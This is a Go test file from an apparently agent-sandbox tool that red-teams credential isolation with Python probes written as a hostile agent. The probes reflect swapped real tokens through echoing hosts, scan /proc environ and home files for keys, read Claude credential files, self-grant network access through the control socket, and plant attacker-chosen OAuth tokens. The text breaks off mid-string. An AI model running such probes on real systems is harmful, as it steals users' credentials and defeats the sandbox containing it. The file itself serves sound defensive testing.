package escape

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// Red team of issue 18 (credentials never enter the sandbox): an allowed
// host that reflects what it received (an error page or a debugging
// endpoint that echoes the request's headers) must not hand the agent the
// real value back in any form or part of its answer.

// rt18Raw is a hostile agent's raw HTTPS client: CONNECT through the
// session's proxy, TLS with the bundle the session trusts, one request
// written by hand, the whole answer (status, headers, 1xx answers,
// chunked trailers, bytes after an upgrade) printed as Python's repr.
// argv: port, path, the Authorization value ("BASIC:user" for Basic with
// the placeholder of $GIT_TOKEN as password, "BEARER" for $TEST_API_KEY,
// "FILE" for the access placeholder of ~/.oauthagent/creds.json), extra
// header lines ("\n"-separated).
const rt18Raw = `
import base64, json, os, socket, ssl, sys
port, path, auth, extra = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
hosthdr = sys.argv[5] if len(sys.argv) > 5 else "127.0.0.1:" + port
if auth.startswith("BASIC:"):
    v = "Basic " + base64.b64encode((auth[6:] + ":" + os.environ["GIT_TOKEN"]).encode()).decode()
elif auth == "FILE":
    v = "Bearer " + json.load(open(os.path.join(os.environ["HOME"], ".oauthagent/creds.json")))["oauth"]["access"]
else:
    v = "Bearer " + os.environ["TEST_API_KEY"]
p = os.environ["HTTPS_PROXY"].split("//", 1)[1].rstrip("/")
ph, pp = p.rsplit(":", 1)
s = socket.create_connection((ph, int(pp)), timeout=20)
s.sendall(("CONNECT 127.0.0.1:%s HTTP/1.1\r\nHost: 127.0.0.1:%s\r\n\r\n" % (port, port)).encode())
head = b""
while b"\r\n\r\n" not in head:
    b = s.recv(1)
    if not b: break
    head += b
print("CONNECT", repr(head))
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
t = ctx.wrap_socket(s, server_hostname="127.0.0.1")
req = "GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: %s\r\nTE: trailers\r\nConnection: close\r\n" % (path, hosthdr, v)
for l in extra.split("\n"):
    if l: req += l + "\r\n"
t.sendall((req + "\r\n").encode())
out = b""
try:
    while True:
        b = t.recv(65536)
        if not b: break
        out += b
except Exception as e:
    print("READERR", e)
print("ANSWER", repr(out))
`

// rt18Echo is an allowed host that reflects the request's Authorization
// header: in its body (/body), a header (/header), a trailer (/trailer),
// an informational 103 answer (/early) and the bytes after a 101
// upgrade (/upgrade). It records what it received.
func rt18Echo(t *testing.T) (*httptest.Server, *[]string, []byte) {
	t.Helper()
	leaf, caPEM := testCA(t)
	var mu sync.Mutex
	var got []string
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a := r.Header.Get("Authorization")
		mu.Lock()
		got = append(got, a)
		mu.Unlock()
		switch r.URL.Path {
		case "/body":
			io.WriteString(w, "you sent: "+a+"\n")
		case "/header":
			w.Header().Set("X-You-Sent", a)
			io.WriteString(w, "see the header\n")
		case "/trailer":
			w.Header().Set("Trailer", "X-You-Sent")
			io.WriteString(w, "see the trailer\n")
			w.(http.Flusher).Flush()
			w.Header().Set("X-You-Sent", a)
		case "/early":
			w.Header().Set("Link", "</"+a+">; rel=preload")
			w.WriteHeader(http.StatusEarlyHints)
			w.Header().Del("Link")
			io.WriteString(w, "after the early hints\n")
		case "/upgrade":
			c, bw, err := w.(http.Hijacker).Hijack()
			if err != nil {
				return
			}
			defer c.Close()
			bw.WriteString("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
			bw.WriteString("upgraded, you sent: " + a + "\n")
			bw.Flush()
		}
	}))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	return srv, &got, caPEM
}

// rt18Leaked reports whether out holds marker literally or in the
// base64 (standard or URL alphabet) of any run of it.
func rt18Leaked(out, marker string) bool {
	if strings.Contains(out, marker) {
		return true
	}
	for _, m := range regexp.MustCompile(`[A-Za-z0-9+/_=-]{12,}`).FindAllString(out, -1) {
		m = strings.TrimRight(m, "=")
		for _, enc := range []*base64.Encoding{base64.RawStdEncoding, base64.RawURLEncoding} {
			for skip := 0; skip < 4; skip++ {
				if len(m) <= skip {
					break
				}
				s := m[skip:]
				s = s[:len(s)-len(s)%4]
				if b, err := enc.DecodeString(s); err == nil && strings.Contains(string(b), marker[:12]) {
					return true
				}
			}
		}
	}
	return false
}

// rt18EchoSession runs rt18Raw against the echo host under a profile with
// a Basic credential (GIT_TOKEN) and a bearer one (TEST_API_KEY) for it.
func rt18EchoSession(t *testing.T, path, auth, extra string, more ...string) (agent string, got []string) {
	e := setup(t, layout{name: "beside/root"})
	srv, rec, caPEM := rt18Echo(t)
	addr := srv.Listener.Addr().String()
	_, port, _ := net.SplitHostPort(addr)
	roots := filepath.Join(e.outDir, "test-roots.pem")
	must(t, os.WriteFile(roots, caPEM, 0o644))
	prof := filepath.Join(e.outDir, "rt18.yaml")
	must(t, os.WriteFile(prof, []byte("name: rt18\nextends: default\nnetwork: allowlist\nallow: [\""+addr+"\"]\nenv:\n  pass: [TEST_*]\n"+
		"credentials:\n  - {name: git-token, env: GIT_TOKEN, hosts: [\""+addr+"\"], basic_auth: true}\n"+
		"  - {name: api-key, env: TEST_API_KEY, hosts: [\""+addr+"\"], header: \"Authorization: Bearer\"}\n"), 0o644))
	o, s, c := e.rtsbRun(t, []string{"--profile", prof}, []string{"GIT_TOKEN=" + realGitToken, "TEST_API_KEY=" + realEnvKey, "SSL_CERT_FILE=" + roots},
		append([]string{"python3", "-c", rt18Raw, port, path, auth, extra}, more...)...)
	t.Logf("exit %d\nstdout:\n%s\nstderr:\n%s", c, o, s)
	if c != 0 {
		t.Fatalf("the agent failed (exit %d): the attempt was not made", c)
	}
	return o, append([]string(nil), (*rec)...)
}

// TestRT18BasicAuthEchoScrubbed: the Basic credential's real token goes
// to the allowed host base64-encoded inside "user:token"; a host that
// echoes the Authorization header hands it back in that form, which a
// search for the literal value does not find. The user name the agent
// picks shifts the token's alignment in the base64: every alignment, in
// the body and in a header.
func TestRT18BasicAuthEchoScrubbed(t *testing.T) {
	for _, c := range []struct{ path, user string }{{"/body", "x"}, {"/body", "xy"}, {"/body", "xyz"}, {"/header", "x-access-token"}} {
		t.Run(strings.TrimPrefix(c.path, "/")+"-"+c.user, func(t *testing.T) {
			out, got := rt18EchoSession(t, c.path, "BASIC:"+c.user, "")
			want := "Basic " + base64.StdEncoding.EncodeToString([]byte(c.user+":"+realGitToken))
			if len(got) != 1 || got[0] != want {
				t.Fatalf("the host received %q, want the real token (%q): the swap the attack relies on did not happen", got, want)
			}
			if rt18Leaked(out, credMarker) {
				t.Fatalf("BREACH: the real token came back to the agent base64-encoded in the echo of its Basic Authorization (%s): the scrub replaces the literal value only", c.path)
			}
			if !strings.Contains(out, "200 OK") {
				t.Errorf("the echo was not answered 200: the scrub must keep the answer")
			}
		})
	}
}

// TestRT18EchoTrailerEarlyHintsUpgrade: the real value echoed in the
// parts of an answer that are not its header or body — a chunked
// trailer, a 103 Early Hints answer before it, the stream after a 101
// upgrade — must not reach the agent either.
func TestRT18EchoTrailerEarlyHintsUpgrade(t *testing.T) {
	for _, c := range []struct{ path, extra string }{{"/trailer", ""}, {"/early", ""}, {"/upgrade", "Upgrade: websocket\nConnection: Upgrade"}} {
		t.Run(strings.TrimPrefix(c.path, "/"), func(t *testing.T) {
			out, got := rt18EchoSession(t, c.path, "BEARER", c.extra)
			if len(got) != 1 || got[0] != "Bearer "+realEnvKey {
				t.Fatalf("the host received %q: the swap the attack relies on did not happen", got)
			}
			if rt18Leaked(out, credMarker) {
				t.Fatalf("BREACH: the real key came back to the agent in the echo of %s", c.path)
			}
			switch c.path {
			case "/upgrade":
				// Refused: the upgraded stream is bytes the scrub does not read.
				if !strings.Contains(out, "502 Bad Gateway") {
					t.Errorf("the upgrade to the credential's host was not refused 502")
				}
			default:
				if !strings.Contains(out, "200 OK") {
					t.Errorf("the echo was not answered 200")
				}
			}
		})
	}
}

// rt18Refresh runs an OAuth refresh session whose token endpoint answers
// newA (and a new refresh token); the credential file is a link to a
// 0600 file in ~/dotfiles when link. It returns the agent's output and
// the caller's file.
func rt18Refresh(t *testing.T, newA string, link bool) (string, string) {
	e := setup(t, layout{name: "beside/root"})
	const (
		oldA = "sk-ant-oat01-" + credMarker + "oldaccess0123456789abcdefghij"
		oldR = "sk-ant-ort01-" + credMarker + "oldrefresh0123456789abcdefghi"
		newR = "sk-ant-ort01-" + credMarker + "newrefresh9876543210zyxwvutsr"
	)
	leaf, caPEM := testCA(t)
	authSrv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"access_token": "`+newA+`", "refresh_token": "`+newR+`", "expires_in": 3600}`)
	}))
	authSrv.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
	authSrv.StartTLS()
	defer authSrv.Close()
	apiSrv, _, _ := rt18EchoWith(t, leaf)
	authAddr, apiAddr := authSrv.Listener.Addr().String(), apiSrv.Listener.Addr().String()
	roots := filepath.Join(e.outDir, "test-roots.pem")
	must(t, os.WriteFile(roots, caPEM, 0o644))
	dir := filepath.Join(e.home, ".oauthagent")
	must(t, os.MkdirAll(dir, 0o755))
	credFile := filepath.Join(dir, "creds.json")
	body := []byte(`{"oauth": {"access": "` + oldA + `", "refresh": "` + oldR + `"}}`)
	if link {
		dots := filepath.Join(e.home, "dotfiles")
		must(t, os.MkdirAll(dots, 0o700))
		must(t, os.WriteFile(filepath.Join(dots, "creds.json"), body, 0o600))
		must(t, os.Symlink(filepath.Join(dots, "creds.json"), credFile))
	} else {
		must(t, os.WriteFile(credFile, body, 0o600))
	}
	prof := filepath.Join(e.outDir, "oauth.yaml")
	must(t, os.WriteFile(prof, []byte("name: oauth\nextends: default\nnetwork: allowlist\nallow: [\""+authAddr+"\", \""+apiAddr+"\"]\ncredentials:\n"+
		"  - {name: oauth-access, file: ~/.oauthagent/creds.json, path: oauth.access, hosts: [\""+apiAddr+"\"], header: \"Authorization: Bearer\", from_response: access_token}\n"+
		"  - {name: oauth-refresh, file: ~/.oauthagent/creds.json, path: oauth.refresh, hosts: [\""+authAddr+"\"], body: true, from_response: refresh_token}\n"), 0o644))
	_, authPort, _ := net.SplitHostPort(authAddr)
	_, apiPort, _ := net.SplitHostPort(apiAddr)
	o, s, c := e.rtsbRun(t, []string{"--profile", prof}, []string{"SSL_CERT_FILE=" + roots}, "python3", "-c", refreshProbe, authPort, apiPort, "/body", "ECHO") // the API host echoes the Authorization header the new access placeholder becomes
	t.Logf("exit %d\nstdout:\n%s\nstderr:\n%s", c, o, s)
	if c != 0 || !strings.Contains(o, "REFRESH {") {
		t.Fatalf("the refresh session failed (exit %d): the attempt was not made", c)
	}
	return o, credFile
}

// rt18EchoWith is rt18Echo with a given certificate.
func rt18EchoWith(t *testing.T, leaf *tls.Certificate) (*httptest.Server, *[]string, []byte) {
	t.Helper()
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "you sent: "+r.Header.Get("Authorization")+"\n")
	}))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	return srv, nil, nil
}

// TestRT18RefreshedTokenEchoScrubbed: after a refresh, the new real
// access token is injected for the old placeholder. A new token of
// another length than the placeholder (a JWT's length changes with its
// claims: codex's ChatGPT login) was skipped by the body scrub (which
// keeps the body's length), so the API host's echo handed it to the
// agent.
func TestRT18RefreshedTokenEchoScrubbed(t *testing.T) {
	const newA = "sk-ant-oat01-" + credMarker + "newaccess9876543210zyxwvutsrq-longer-than-before"
	out, _ := rt18Refresh(t, newA, false)
	if !strings.Contains(out, "ECHO you sent: Bearer ") {
		t.Fatalf("the API host did not echo: the attempt was not made")
	}
	if rt18Leaked(out, credMarker) {
		t.Fatalf("BREACH: the refreshed real access token (another length than its placeholder) came back to the agent in the API host's echo: the body scrub skips a value whose length differs from its placeholder's")
	}
}

// TestRT18RefreshIntoLinkedFile: the caller's credential file is a link
// (a dotfiles checkout) to a 0600 file. Storing the refreshed tokens must
// write the file the link names, keeping its 0600 mode and the link —
// not replace the link with a file of the link's own mode (0777: every
// local user reads and rewrites the new tokens).
func TestRT18RefreshIntoLinkedFile(t *testing.T) {
	const newA = "sk-ant-oat01-" + credMarker + "newaccess9876543210zyxwvutsrq"
	_, credFile := rt18Refresh(t, newA, true)
	st, err := os.Lstat(credFile)
	if err != nil {
		t.Fatal(err)
	}
	if st.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the caller's link %s was replaced by a regular file of mode %v", credFile, st.Mode().Perm())
		if st.Mode().Perm()&0o077 != 0 {
			t.Errorf("BREACH: the refreshed real tokens are in a file other users can read (mode %v): the link's own mode was copied", st.Mode().Perm())
		}
	}
	target := filepath.Join(filepath.Dir(filepath.Dir(credFile)), "dotfiles", "creds.json")
	tst, err := os.Stat(target)
	if err != nil {
		t.Fatal(err)
	}
	if tst.Mode().Perm() != 0o600 {
		t.Errorf("the linked file's mode is %v, want 0600 kept", tst.Mode().Perm())
	}
	var doc struct {
		OAuth map[string]any `json:"oauth"`
	}
	if err := json.Unmarshal(mustRead(t, target), &doc); err != nil || doc.OAuth["access"] != newA {
		t.Errorf("the linked file does not hold the refreshed access token: %s", mustRead(t, target))
	}
}

// rt18FindProbe searches, as a hostile agent, every file it can read
// under the roots given (and /proc's environ, cmdline and maps of every
// process) for the marker of a real value; it prints each place.
const rt18FindProbe = `
import os, sys
m = ("REALSECRET" + "MARKER").encode()
hits = []
for d in os.listdir("/proc"):
    if d.isdigit():
        for f in ("environ", "cmdline", "maps"):
            try:
                if m in open("/proc/%s/%s" % (d, f), "rb").read(): hits.append("/proc/%s/%s" % (d, f))
            except Exception: pass
for top in sys.argv[1:]:
    for root, dirs, files in os.walk(top):
        dirs[:] = [x for x in dirs if os.path.join(root, x) not in ("/proc", "/sys", "/dev")]
        for f in files:
            p = os.path.join(root, f)
            try:
                if os.path.islink(p) or not os.path.isfile(p): continue
                with open(p, "rb") as fh:
                    if m in fh.read(4 << 20): hits.append(p)
            except Exception: pass
print("HITS", hits)
`

// rt18ClaudeKeySession runs rt18FindProbe under the claude profile with
// the caller's real key in files (relative to the home), and in
// ANTHROPIC_API_KEY when env; it returns the probe's output.
func rt18ClaudeKeySession(t *testing.T, key string, files map[string]string, env bool) string {
	e := setup(t, layout{name: "beside/root"})
	for f, body := range files {
		p := filepath.Join(e.home, f)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(body), 0o644))
	}
	var envs []string
	if env {
		envs = append(envs, "ANTHROPIC_API_KEY="+key)
	}
	o, s, c := e.rtsbRun(t, []string{"--profile", "claude"}, envs, "python3", "-c", rt18FindProbe, e.home, "/tmp", "/var/tmp", "/run")
	t.Logf("exit %d\n%s\n%s", c, o, s)
	if c != 0 || !strings.Contains(o, "HITS ") {
		t.Fatalf("the probe did not run (exit %d)", c)
	}
	return o
}

const rt18ClaudeKey = "sk-ant-api03-" + credMarker + "homefilekey0123456789abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTU"

// TestRT18RealKeyInClaudeSettings: the caller's real key is also where
// users keep it besides the environment: their shell's rc files (not
// shown inside) and Claude Code's settings (env: ANTHROPIC_API_KEY,
// applied to every session; ~/.claude/ is shown, writable). Under the
// claude profile none may show it to the agent. On 1a4e8d8 the agent read
// it in ~/.claude/settings.json.
func TestRT18RealKeyInClaudeSettings(t *testing.T) {
	o := rt18ClaudeKeySession(t, rt18ClaudeKey, map[string]string{
		".bashrc":                  "export ANTHROPIC_API_KEY=" + rt18ClaudeKey + "\n",
		".profile":                 "export ANTHROPIC_API_KEY=" + rt18ClaudeKey + "\n",
		".zshrc":                   "export ANTHROPIC_API_KEY=" + rt18ClaudeKey + "\n",
		".config/fish/config.fish": "set -x ANTHROPIC_API_KEY " + rt18ClaudeKey + "\n",
		".claude/settings.json":    `{"env": {"ANTHROPIC_API_KEY": "` + rt18ClaudeKey + `", "ANTHROPIC_AUTH_TOKEN": "tok-` + credMarker + `authtoken0123456789"}, "model": "x"}`,
	}, false)
	if !strings.Contains(o, "HITS []") {
		t.Errorf("BREACH: the caller's real key is readable inside under the claude profile: %s", o)
	}
}

// TestRT18ConsoleKeyInClaudeJSON: a Claude Code login through the
// Console keeps the API key in ~/.claude.json (primaryApiKey); the claude
// profile seeds the agent's copy (~/.claude/.claude.json) from that file,
// real key and all (on cfa47dc the agent read it there). The copy must
// hold a placeholder of the key's shape — in every session, the copy
// kept between them — and the user's file must not change.
func TestRT18ConsoleKeyInClaudeJSON(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	user := filepath.Join(e.home, ".claude.json")
	body := `{"primaryApiKey": "` + rt18ClaudeKey + `", "hasCompletedOnboarding": true}`
	must(t, os.WriteFile(user, []byte(body), 0o600))
	probe := rt18FindProbe + `
import json
print("KEY", json.load(open(os.path.join(os.environ["HOME"], ".claude/.claude.json"))).get("primaryApiKey"))
`
	for i := 0; i < 2; i++ {
		o, s, c := e.rtsbRun(t, []string{"--profile", "claude"}, nil, "python3", "-c", probe, e.home)
		t.Logf("session %d: exit %d\n%s\n%s", i+1, c, o, s)
		if c != 0 || !strings.Contains(o, "HITS ") {
			t.Fatalf("the session did not run (exit %d)", c)
		}
		if strings.Contains(s, "settings.json moved aside") {
			// The claude built-in's settings.json credentials must not
			// take the persistence placeholder of an absent
			// ~/.claude/settings.json for a planted file.
			t.Errorf("session %d: fedmem moved aside a ~/.claude/settings.json nobody made", i+1)
		}
		if !strings.Contains(o, "HITS []") {
			t.Fatalf("BREACH: the Console login's real key (primaryApiKey of ~/.claude.json) is readable inside: %s", o)
		}
		key := ""
		for _, l := range strings.Split(o, "\n") {
			if v, ok := strings.CutPrefix(l, "KEY "); ok {
				key = v
			}
		}
		if len(key) != len(rt18ClaudeKey) || !strings.HasPrefix(key, "sk-ant-api03-") || key[len(key)-20:] != rt18ClaudeKey[len(rt18ClaudeKey)-20:] {
			t.Errorf("session %d: the copy's primaryApiKey is %q: want a placeholder of the key's shape (prefix and last 20 characters kept)", i+1, key)
		}
	}
	if got := string(mustRead(t, user)); got != body {
		t.Errorf("the user's ~/.claude.json changed: %s", got)
	}
}

// TestRT18WildcardNeverMatchesAddress: a wildcard applies to names, never
// to addresses (ParseAllow refuses "*.127.0.0.1"); but "*.0.0.1" — whose
// domain is no address — matched the literal 127.0.0.1 by its suffix, and
// an address a rule matches is dialled whatever its range: loopback
// through a name rule (the same for `fedmem net allow SESSION '*.0.0.1'`,
// which adds a rule of the same grammar).
func TestRT18WildcardNeverMatchesAddress(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	var hits sync.Map
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Store(r.URL.Path, true)
		io.WriteString(w, "loopback service")
	}))
	defer srv.Close()
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(srv.URL, "http://"))
	prof := filepath.Join(e.outDir, "wild.yaml")
	must(t, os.WriteFile(prof, []byte("name: wild\nextends: default\nnetwork: allowlist\nallow: [\"*.0.0.1\"]\n"), 0o644))
	probe := `
import sys, urllib.request
try:
    print("GET OK", urllib.request.urlopen("http://127.0.0.1:%s/wild" % sys.argv[1], timeout=10).read().decode())
except Exception as e:
    print("GET ERR", e)
`
	o, s, c := e.rtsbRun(t, []string{"--profile", prof}, nil, "python3", "-c", probe, port)
	t.Logf("exit %d\n%s\n%s", c, o, s)
	if _, hit := hits.Load("/wild"); c == 125 && !hit {
		// Refused at load, naming the rule (profiles.ParseAllow).
		if !strings.Contains(s, prof) || !strings.Contains(s, "a wildcard applies to names, not to addresses") {
			t.Errorf("the profile was refused without naming the file and the rule:\n%s", s)
		}
		return
	}
	if c != 0 || !strings.Contains(o, "GET ") {
		t.Fatalf("the probe did not run (exit %d)", c)
	}
	if _, hit := hits.Load("/wild"); hit || strings.Contains(o, "GET OK") {
		t.Fatalf("BREACH: the wildcard rule *.0.0.1 let the agent reach the loopback address 127.0.0.1:%s", port)
	}
	if !strings.Contains(o, "403") {
		t.Errorf("want the proxy's 403 (not in the allow list): %s", o)
	}
}

// TestRT18RefreshFromEcho: a request to the token host that carries the
// refresh placeholder is taken for a refresh, and its JSON answer's
// access_token and refresh_token for the new real values, stored in the
// caller's file after the session. A token host that echoes the request
// (any JSON endpoint that reflects its body) would let the agent choose
// them: its own account's tokens, which the user's next tool outside
// would use (the user's work goes to the agent's account). A value the
// request itself carried is not a new token.
func TestRT18RefreshFromEcho(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	const (
		oldA = "sk-ant-oat01-" + credMarker + "oldaccess0123456789abcdefghij"
		oldR = "sk-ant-ort01-" + credMarker + "oldrefresh0123456789abcdefghi"
	)
	leaf, caPEM := testCA(t)
	authSrv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var doc map[string]any
		json.NewDecoder(r.Body).Decode(&doc)
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(doc) // an endpoint that reflects its body
	}))
	authSrv.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
	authSrv.StartTLS()
	defer authSrv.Close()
	authAddr := authSrv.Listener.Addr().String()
	roots := filepath.Join(e.outDir, "test-roots.pem")
	must(t, os.WriteFile(roots, caPEM, 0o644))
	dir := filepath.Join(e.home, ".oauthagent")
	must(t, os.MkdirAll(dir, 0o755))
	credFile := filepath.Join(dir, "creds.json")
	must(t, os.WriteFile(credFile, []byte(`{"oauth": {"access": "`+oldA+`", "refresh": "`+oldR+`"}}`), 0o600))
	prof := filepath.Join(e.outDir, "oauth.yaml")
	must(t, os.WriteFile(prof, []byte("name: oauth\nextends: default\nnetwork: allowlist\nallow: [\""+authAddr+"\"]\ncredentials:\n"+
		"  - {name: oauth-access, file: ~/.oauthagent/creds.json, path: oauth.access, hosts: [\"127.0.0.1:1\"], header: \"Authorization: Bearer\", from_response: access_token}\n"+
		"  - {name: oauth-refresh, file: ~/.oauthagent/creds.json, path: oauth.refresh, hosts: [\""+authAddr+"\"], body: true, from_response: refresh_token}\n"), 0o644))
	_, authPort, _ := net.SplitHostPort(authAddr)
	probe := `
import json, os, sys, urllib.request
c = json.load(open(os.path.join(os.environ["HOME"], ".oauthagent/creds.json")))["oauth"]
body = {"access_token": "sk-ant-oat01-AGENTSOWNACCOUNTaccess0123456789", "refresh_token": "sk-ant-ort01-AGENTSOWNACCOUNTrefresh012345678", "note": c["refresh"]}
r = urllib.request.Request("https://127.0.0.1:%s/echo" % sys.argv[1], data=json.dumps(body).encode(), headers={"Content-Type": "application/json"})
print("ECHO", urllib.request.urlopen(r, timeout=20).read().decode())
`
	o, s, c := e.rtsbRun(t, []string{"--profile", prof}, []string{"SSL_CERT_FILE=" + roots}, "python3", "-c", probe, authPort)
	t.Logf("exit %d\nstdout:\n%s\nstderr:\n%s", c, o, s)
	if c != 0 || !strings.Contains(o, "ECHO {") {
		t.Fatalf("the agent failed (exit %d): the attempt was not made", c)
	}
	b := mustRead(t, credFile)
	if strings.Contains(string(b), "AGENTSOWNACCOUNT") {
		t.Fatalf("BREACH: the caller's credential file now holds the agent's chosen tokens (an echo taken for a refresh): %s", b)
	}
	if !strings.Contains(string(b), oldA) || !strings.Contains(string(b), oldR) {
		t.Errorf("the caller's tokens changed: %s", b)
	}
}

// TestRT18NetControlVisibleInside: an unprivileged caller without
// XDG_RUNTIME_DIR whose TMPDIR lies in the writable workdir has its
// sessions' control sockets there, visible inside. The agent connects
// and asks for a host: the SO_PEERCRED check must refuse it — its uid is
// the caller's seen from outside, but it lives in the sandbox's user
// namespace (rule peer-userns) — and the host stays refused.
func TestRT18NetControlVisibleInside(t *testing.T) {
	e := setup(t, layout{name: "beside/user", gateOwned: true, user: true})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "served "+r.URL.Path) }))
	defer srv.Close()
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(srv.URL, "http://"))
	tmp := filepath.Join(e.workdir, "rt18-tmp")
	must(t, os.MkdirAll(tmp, 0o700))
	must(t, os.Chown(tmp, agentUID, agentUID))
	prof := filepath.Join(e.outDir, "locked.yaml")
	must(t, os.WriteFile(prof, []byte("name: locked\nextends: default\nnetwork: allowlist\nallow: [\"127.0.0.1:1\"]\n"), 0o644))
	probe := `
import errno, json, os, socket, sys, urllib.request
port, base = sys.argv[1], sys.argv[2]
sock = os.path.join(base, "fedmem-%d" % os.getuid(), "sessions", os.environ["FEDMEM_SESSION"], "control.sock")
for d, _, fs in os.walk(base): print("TREE", d, fs, os.getuid())
print("EXISTS", os.path.exists(sock))
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect(sock)
    s.sendall(json.dumps({"op": "allow", "host": "127.0.0.1:" + port}).encode() + b"\n")
    print("ANSWER", s.makefile().readline().strip())
except OSError as e:
    print("ANSWER", errno.errorcode.get(e.errno, e.errno))
try:
    print("GET OK", urllib.request.urlopen("http://127.0.0.1:%s/x" % port, timeout=10).read().decode())
except Exception as e:
    print("GET ERR", e)
`
	o, s, c := e.rtsbRun(t, []string{"--profile", prof}, []string{"TMPDIR=" + tmp}, "python3", "-c", probe, port, tmp)
	t.Logf("exit %d\n%s\n%s", c, o, s)
	if c != 0 || !strings.Contains(o, "GET ") {
		t.Fatalf("the probe did not run (exit %d)", c)
	}
	if strings.Contains(o, "GET OK") {
		t.Fatalf("BREACH: the agent allowed itself a host through the session's control socket")
	}
	if strings.Contains(o, "EXISTS True") && !strings.Contains(o, "peer-userns") {
		t.Errorf("the agent reached the control socket and was not refused by the user-namespace rule: %s", o)
	}
}

// TestRT18GeneratedCopyOtherUsers: the generated copy of a credential
// file holds the rest of the caller's file (here another secret of
// ~/.claude/settings.json's env that is no credential) — the caller's,
// 0600 outside. During the session another local user, who never uses
// fedmem, must not read it in the session's folder under /var/tmp.
func TestRT18GeneratedCopyOtherUsers(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	settings := filepath.Join(e.home, ".claude", "settings.json")
	must(t, os.MkdirAll(filepath.Dir(settings), 0o755))
	must(t, os.WriteFile(settings, []byte(`{"env": {"ANTHROPIC_API_KEY": "`+rt18ClaudeKey+`", "AWS_SECRET_ACCESS_KEY": "OTHERUSERS`+credMarker+`awssecret"}}`), 0o600))
	before, _ := filepath.Glob("/var/tmp/fedmem-cred-*")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	evs := filepath.Join(e.outDir, "events.jsonl")
	cmd := e.command(ctx, "", []string{"--profile", "claude", "--events", evs}, "sh", "-c", "echo READY; read x")
	stdin, err := cmd.StdinPipe()
	must(t, err)
	out, err := cmd.StdoutPipe()
	must(t, err)
	var se bytes.Buffer
	cmd.Stderr = &se
	must(t, cmd.Start())
	defer func() { stdin.Close(); cmd.Wait() }()
	line := make([]byte, 6)
	if _, err := io.ReadFull(out, line); err != nil || string(line) != "READY\n" {
		t.Fatalf("agent: %q %v\n%s", line, err, se.String())
	}
	// This session's own folder (fedmem-cred-SESSION-*): other packages'
	// sessions make theirs at the same time, and remove them.
	starts := eventsOf(t, evs, "start")
	if len(starts) == 0 {
		t.Fatalf("no start event in %s", evs)
	}
	id, _ := starts[0]["session"].(string)
	after, _ := filepath.Glob("/var/tmp/fedmem-cred-" + id + "-*")
	var dirs []string
	for _, d := range after {
		if !slices.Contains(before, d) {
			dirs = append(dirs, d)
		}
	}
	if len(dirs) == 0 {
		t.Fatalf("no session credential folder under /var/tmp")
	}
	// Another local user: uid 64123, no groups; reads what it can there.
	for _, d := range dirs {
		c := exec.Command("setpriv", "--reuid", "64123", "--regid", "64123", "--clear-groups", "--inh-caps=-all", "--",
			"sh", "-c", `ls -la "$1"; for f in "$1"/* "$1"/file-0-settings.json; do echo "== $f"; cat "$f"; done; true`, "sh", d)
		b, _ := c.CombinedOutput()
		t.Logf("uid 64123 in %s:\n%s", d, b)
		if strings.Contains(string(b), "OTHERUSERS") {
			t.Errorf("BREACH: another local user read the caller's settings (the generated copy) in %s", d)
		}
		if !strings.Contains(string(b), "Permission denied") {
			t.Errorf("want the listing refused (EACCES) to another user")
		}
	}
}

// TestRT18MCPTokensInClaudeCredentials: Claude Code keeps the OAuth
// tokens of the user's MCP servers (Notion, Atlassian: long-lived refresh
// tokens) in ~/.claude/.credentials.json too, under mcpOAuth, beside the
// login the claude profile declares. The generated copy must not carry
// them in clear: on c962617 it kept every field it was not told about.
// (A stale entry with empty tokens must not refuse the session.)
func TestRT18MCPTokensInClaudeCredentials(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	creds := filepath.Join(e.home, ".claude", ".credentials.json")
	must(t, os.MkdirAll(filepath.Dir(creds), 0o755))
	must(t, os.WriteFile(creds, []byte(`{"claudeAiOauth": {"accessToken": "sk-ant-oat01-`+credMarker+`loginaccess0123456789abcdef", "refreshToken": "sk-ant-ort01-`+credMarker+`loginrefresh0123456789abcde", "expiresAt": 4102444800000, "scopes": ["user:inference"]},
